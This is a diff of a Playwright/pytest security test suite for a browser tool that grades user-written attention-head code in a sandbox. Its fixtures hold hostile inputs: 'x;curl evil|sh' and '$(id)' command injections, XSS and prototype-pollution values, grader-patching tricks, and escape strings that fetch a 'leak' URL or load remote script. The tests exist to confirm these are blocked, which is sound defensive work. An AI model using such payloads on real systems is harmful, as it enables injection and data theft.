@@ -80,20 +80,20 @@ def watched(browser, address):
 # Typed code -------------------------------------------------------------------------------------
 
 JUDGE = """async (code) => {
-  const { Bench } = await import("/kit/typed.js");
-  const { openRun } = await import("/kit/run.js");
-  globalThis.bench ??= new Bench();
+  const { CodeRunner } = await import("/app/code-runner.js");
+  const { openRun } = await import("/app/run.js");
+  globalThis.runner ??= new CodeRunner();
   globalThis.run ??= await openRun("stories");
   try {
-    return await bench.run(run, { code, exercise: "attention", ids: [0, 1, 2, 3], layer: 0,
-                                  head: 0 });
-  } catch (error) {
-    return { passed: [], says: error.message, printed: [] };
+    return await runner.run(run, { code, exercise: "attention", ids: [0, 1, 2, 3], layer: 0,
+                                   head: 0 });
+  } catch ({ message }) {
+    return { passed: [], mistake: { message }, printed: [] };
   }
 }"""
 
 ASKS = """("fetch('{address}/leak'); import('{address}/remote.js');"
- "new WebSocket('ws://{host}/'); postMessage({{ id: 1, result: {{ says: 'FORGED' }} }})")"""
+ "new WebSocket('ws://{host}/'); postMessage({{ id: 1, result: {{ passed: ['FORGED'] }} }})")"""
 WAYS = {  # to what in JavaScript can make a function of a text
     "the constructor of a function": "import _torch\n_torch.hand.constructor",
     "the constructor of an operator": "import _torch\n_torch.operators.add.constructor",
@@ -129,7 +129,7 @@ def test_typed_python_finds_no_way_into_javascript(judge, elsewhere, way):
     *first, last = WAYS[way].format().split("\n")
     code = "\n".join([*first, f"made = {last}", f"made{ASKS.format(**vars(elsewhere))}()", RIGHT])
     result = judge(code)
-    assert result["passed"] == [] and "FORGED" not in result["says"]
+    assert result["passed"] == [] and "FORGED" not in str(result)
     assert elsewhere.asked == []
 
 
@@ -141,16 +141,16 @@ def test_typed_python_cannot_change_what_is_javascripts(judge):
 
 @pytest.mark.parametrize("trick", [
     "import tryout\ntryout.stages = lambda report: None",
-    "import tryout\ntryout.stages = lambda report: report('in the model', '')",
-    "import tryout\ntryout.stages = lambda report: report({'a': 1}, print)",
-    "import tryout\ntryout.mix = lambda *given: 5",
+    "import tryout\ntryout.stages = lambda report: report('in_model', None, None, None)",
+    "import tryout\ntryout.stages = lambda report: report({'a': 1}, print, 1, 'x')",
+    "import tryout\ntryout.attention = lambda *given: 5",
     "import judge\njudge.stages = lambda head, torch: iter(())",
-    "import judge\njudge.STAGES = ()\njudge.far = lambda *a, **b: False",
+    "import judge\njudge.CHECKS = ()\njudge.differ = lambda *a, **b: False",
     "import builtins\nbuiltins.zip = lambda *a: iter(())",
 ])
 def test_a_wrong_head_is_not_called_right_whatever_it_does_to_the_judge(judge, trick):
     wrong = trick + RIGHT.replace(" / D**0.5", "")
-    assert "in the model" not in judge(wrong)["passed"]
+    assert "in_model" not in judge(wrong)["passed"]
     assert len(judge(RIGHT)["passed"]) == 9, "the next code is judged as if nothing had been"
 
 
@@ -160,11 +160,12 @@ def test_an_answer_that_was_not_asked_for_is_no_verdict(judge):
     assert page.workers and all(worker.url.startswith("blob:") for worker in page.workers)
     for worker in page.workers:
         worker.evaluate("""() => { for (let id = 0; id < 40; id++) postMessage({ id, result: {
-            passed: ["it runs"], failed: "", says: "FORGED", printed: [], more: 0 } }); }""")
+            passed: ["runs"], mistake: { message: "FORGED" }, printed: [], truncated: 0 } }); }""")
     page.evaluate("""async () => {
-        const { Asked } = await import("/kit/asked.js");
-        new Asked(new URL("/none.js", location)).answered({ id: 1, result: "FORGED" }); }""")
-    assert page.errors == [] and "FORGED" not in judge(RIGHT)["says"]
+        const { WorkerClient } = await import("/app/worker-client.js");
+        const client = new WorkerClient(new URL("/none.js", location));
+        client.receive({ id: 1, result: "FORGED" }); }""")
+    assert page.errors == [] and "FORGED" not in str(judge(RIGHT))
 
 
 # The policy -------------------------------------------------------------------------------------
@@ -218,7 +219,7 @@ def test_the_engine_of_every_page_is_started_with_the_policy(browser, shipped, e
     for name in ("explore.html", "write.html"):
         with watched(browser, f"{shipped}/{name}") as page:
             page.mouse.move(5, 5)
-            page.wait_for_function("() => document.querySelector('token-row').look")
+            page.wait_for_function("() => document.querySelector('token-row').pass")
             if not page.workers:
                 page.wait_for_event("worker")
             assert all(worker.url.startswith("blob:") for worker in page.workers)
@@ -254,11 +255,11 @@ MANIFESTS = {
     "no heads": lambda at: setting(n_head=0),
     "a dataset that is no text": lambda at: setting(dataset={"constructor": 1}),
     "tokens that are templates": lambda at: lambda m: m["tokenizer"].update(
-        symbols=[{"_$litType$": 1, "strings": ["<img src=x>"], "values": []}] * 512),
+        vocab=[{"_$litType$": 1, "strings": ["<img src=x>"], "values": []}] * 512),
     "prompts that are objects": lambda at: lambda m: m.update(prompts=[{"__proto__": {}}]),
-    "steps that are texts": lambda at: lambda m: m.update(watched=["0"]),
+    "steps that are texts": lambda at: lambda m: m.update(sampled_steps=["0"]),
     "no settings": lambda at: lambda m: m.update(settings=None),
-    "a reason that is no text": lambda at: lambda m: m["missing"].update(film={"a": 1}),
+    "a reason that is no text": lambda at: lambda m: m["missing"].update(samples={"a": 1}),
 }
 
 
@@ -327,7 +328,7 @@ def test_a_token_that_was_given_does_not_wait_for_weights_that_are_damaged(brows
     shutil.copytree(SHIPPED, site)
     weights = site / "exported" / "stories" / "weights" / "001000.bin"
     weights.write_bytes(weights.read_bytes()[:-1])
-    with served(site) as address, watched(browser, f"{address}/explore.html#at=1") as page:
+    with served(site) as address, watched(browser, f"{address}/explore.html#position=1") as page:
         page.mouse.move(5, 5)
         alert = page.locator("top-ten").get_by_role("alert")
         alert.wait_for()
@@ -349,7 +350,7 @@ NASTY = ["x;curl evil|sh", "x && y", "$(id)", "`id`", "a b", "x\nrm", "'", '"', 
 @pytest.mark.parametrize("name", NASTY)
 def test_a_name_that_is_no_word_is_in_no_command(judge, name):
     said = judge.page.evaluate(
-        "async (name) => (await import('/kit/command.js')).exportCommand(name)", name)
+        "async (name) => (await import('/app/command.js')).exportCommand(name)", name)
     assert said == "python export_for_web.py"
 
 
@@ -363,7 +364,7 @@ def test_a_name_that_is_no_word_is_in_no_command(judge, name):
 ])
 def test_a_command_names_the_folder_of_a_run_as_one_word_or_not_at_all(judge, folder, words):
     said = judge.page.evaluate(
-        "async (folder) => (await import('/kit/command.js')).exportCommand('tale', folder)", folder)
+        "async (folder) => (await import('/app/command.js')).exportCommand('tale', folder)", folder)
     assert shlex.split(said) == ["python", "export_for_web.py", *words]
 
 
@@ -385,7 +386,7 @@ def test_what_a_run_calls_its_corpus_is_quoted_where_it_is_to_be_typed(visited, 
     with changed(visited, poison):
         visited.goto(f"{shipped}/write.html", wait_until="load")
         visited.get_by_role("button", name="Download my_head.py").wait_for()
-        shown = visited.locator("take-home code").all_inner_texts()
+        shown = visited.locator("download-head code").all_inner_texts()
         assert shown and not any("rm -rf" in code or "$(" in code for code in shown)
 
 
@@ -394,8 +395,8 @@ def test_what_a_run_calls_its_corpus_is_quoted_where_it_is_to_be_typed(visited, 
 VALUES = ["NaN", "1e99", "-1e99", "[1,2]", "__proto__", "constructor", "%E2%80%AEx", "x" * 5000,
           "<img src=x onerror=alert(1)>", "0x10", "%00", "1.0.0", "step:__proto__", "off:9.9",
           "temperature:NaN", ""]
-KEYS = ["step", "prompt", "head", "temperature", "seed", "text", "at", "there", "versus",
-        "exercise", "__proto__", "constructor"]
+KEYS = ["step", "prompt", "head", "temperature", "seed", "text", "position",
+        "comparedPosition", "versus", "exercise", "__proto__", "constructor"]
 
 
 @pytest.mark.parametrize("name", ["index.html", "explore.html", "write.html"])
@@ -425,20 +426,18 @@ def arabic(tmp_path_factory):
     run = site / "exported" / "stories"
 
     def translate(manifest):
-        end, *symbols = manifest["tokenizer"]["symbols"]
-        manifest["tokenizer"]["symbols"] = [end, *[one.translate(ARABIC) for one in symbols]]
+        end, *symbols = manifest["tokenizer"]["vocab"]
+        manifest["tokenizer"]["vocab"] = [end, *[one.translate(ARABIC) for one in symbols]]
         manifest["prompts"] = [one.translate(ARABIC) for one in manifest["prompts"]]
 
     change(run, "manifest.json", translate)
-    change(run, "film.json", lambda film: [one.update(text=one["text"].translate(ARABIC))
-                                           for one in film["prompts"]])
     with served(site) as address:
         yield address
 
 
 LEFTS = """() => [...document.querySelector("#inside token-row").renderRoot
     .querySelectorAll(".token")].slice(0, 6).map((token) => token.getBoundingClientRect().left)"""
-DIRECTIONS = """() => [...document.querySelector("five-texts").renderRoot
+DIRECTIONS = """() => [...document.querySelector("prompt-samples").renderRoot
     .querySelectorAll("p[tabindex]")].map((text) => getComputedStyle(text).direction)"""
 
 
@@ -450,11 +449,11 @@ def test_a_text_is_read_in_its_own_direction(browser, request, which, direction)
         lefts = page.evaluate(LEFTS)
         assert lefts == sorted(lefts, reverse=direction == "rtl")
         row = page.locator("#inside token-row .tokens")
-        before = page.evaluate("() => document.querySelector('#inside token-row').place")
+        before = page.evaluate("() => document.querySelector('#inside token-row').shownPosition")
         row.press("ArrowLeft")
         page.wait_for_timeout(100)
-        after = page.evaluate("() => document.querySelector('#inside token-row').place")
+        after = page.evaluate("() => document.querySelector('#inside token-row').shownPosition")
         assert after - before == (1 if direction == "rtl" else -1)
         page.goto(f"{address}/index.html")
-        page.locator("five-texts .token").first.wait_for()
+        page.locator("prompt-samples .token").first.wait_for()
         assert page.evaluate(DIRECTIONS) == [direction] * 5
